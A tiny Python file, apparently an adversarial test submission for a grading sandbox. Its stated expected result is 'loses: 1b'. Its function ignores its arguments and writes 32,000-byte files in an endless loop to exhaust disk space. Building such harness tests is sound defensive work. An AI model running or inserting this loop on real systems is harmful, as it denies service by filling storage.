"""Writes small files without end.

loses: 1b
"""

from itertools import count

from honest import *


def weight_counts(n, k):
    for number in count():
        with open(f"f{number}", "wb") as file:
            file.write(b"x" * 32_000)
